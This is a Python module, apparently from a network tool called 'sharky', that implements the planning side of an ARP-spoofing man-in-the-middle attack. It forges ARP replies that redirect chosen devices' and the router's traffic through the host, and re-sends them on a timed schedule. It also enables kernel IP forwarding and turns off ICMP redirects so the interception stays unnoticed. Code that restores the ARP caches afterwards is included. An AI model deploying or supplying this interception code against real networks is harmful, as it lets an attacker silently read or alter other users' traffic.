"""Man in the middle by ARP: who is told what, and how often. No clock and no socket here.

A listed device is told that the router is at our MAC, and the router that the device is. The kernel forwards between them. All packets
are unicast; one packet a second at most is sent on behalf of each device, by turns to the device and to the router, so each hears one
every two seconds, before what it has asked elsewhere gets old. The truth is told in the same way at the end.
"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import dataclass
from typing import Generic, TypeVar

from sharky.placement.arp import REPLY, Arp, question
from sharky.placement.network import Network
from sharky.placement.steps import SetKernel

SECOND_NS = 1_000_000_000
NOBODY_YET = "0.0.0.0"  # noqa: S104 - who asks so changes nothing in the memory of who answers (RFC 5227)
TRUTHS = 4
"""How many packets put a device and the router right: two for each, in case one is lost."""

Packet = TypeVar("Packet")


@dataclass(frozen=True, slots=True)
class Station:
    """A machine in the network."""

    address: str
    mac: str
    name: str = ""

    def __str__(self) -> str:
        return f"{self.name} ({self.address})" if self.name and self.name != self.address else self.address


@dataclass(frozen=True, slots=True)
class Redirect:
    """Which devices are redirected.

    Attributes:
        own: This machine.
        router: The device that the targets' packets go to.
    """

    interface: str
    own: Station
    router: Station
    targets: tuple[Station, ...]

    @property
    def lies(self) -> tuple[tuple[Arp, ...], ...]:
        """For each target the packets that redirect it, to be sent by turns."""
        return tuple(
            (self._tell(target, self.router, self.own.mac), self._tell(self.router, target, self.own.mac)) for target in self.targets
        )

    @property
    def truths(self) -> tuple[tuple[Arp, ...], ...]:
        """For each target the packets that put everything right again, to be sent one after the other."""
        pairs = ((self._tell(target, self.router, self.router.mac), self._tell(self.router, target, target.mac)) for target in self.targets)
        return tuple(pair * (TRUTHS // 2) for pair in pairs)

    @property
    def questions(self) -> tuple[Arp, ...]:
        """The packets that ask who has the addresses of the router and of the targets."""
        return tuple(question(self.own.mac, NOBODY_YET, station.address) for station in (self.router, *self.targets))

    def _tell(self, to: Station, about: Station, mac: str) -> Arp:
        return Arp(to.mac, self.own.mac, REPLY, mac, about.address, to.mac, to.address)


class Schedule(Generic[Packet]):
    """Deals out packets: never two for the same target within a second, however late it is asked."""

    def __init__(self, packets: Sequence[Sequence[Packet]], start_ns: int, *, is_endless: bool) -> None:
        self._packets = packets
        self._is_endless = is_endless
        self._sent = [0] * len(packets)
        self._next_ns = [start_ns + number * SECOND_NS // max(1, len(packets)) for number in range(len(packets))]

    def due(self, now_ns: int) -> list[Packet]:
        """Return what is to be sent now."""
        due = []
        for number, packets in enumerate(self._packets):
            if self._is_left(number) and now_ns >= self._next_ns[number]:
                due.append(packets[self._sent[number] % len(packets)])
                self._sent[number] += 1
                self._next_ns[number] = now_ns + SECOND_NS
        return due

    @property
    def next_ns(self) -> int | None:
        """When something is due next; None where nothing is left."""
        return min((moment for number, moment in enumerate(self._next_ns) if self._is_left(number)), default=None)

    def _is_left(self, number: int) -> bool:
        return self._is_endless or self._sent[number] < len(self._packets[number])


def kernel_settings(interface: str) -> tuple[str, ...]:
    """Return the paths under /proc/sys that are changed."""
    return (f"net/ipv4/conf/{interface}/forwarding", f"net/ipv4/conf/{interface}/send_redirects", "net/ipv4/conf/all/send_redirects")


def plan_forwarding(interface: str, network: Network) -> list[SetKernel]:
    """Return the steps that make the kernel forward what comes in at this one interface, without telling the devices a shorter way."""
    forwarding, *redirects = kernel_settings(interface)
    steps = [SetKernel(forwarding, "1", "the kernel forwards")] if network.settings.get(forwarding) != "1" else []
    return steps + [SetKernel(key, "0", "no hints at a shorter way") for key in redirects if network.settings.get(key) != "0"]
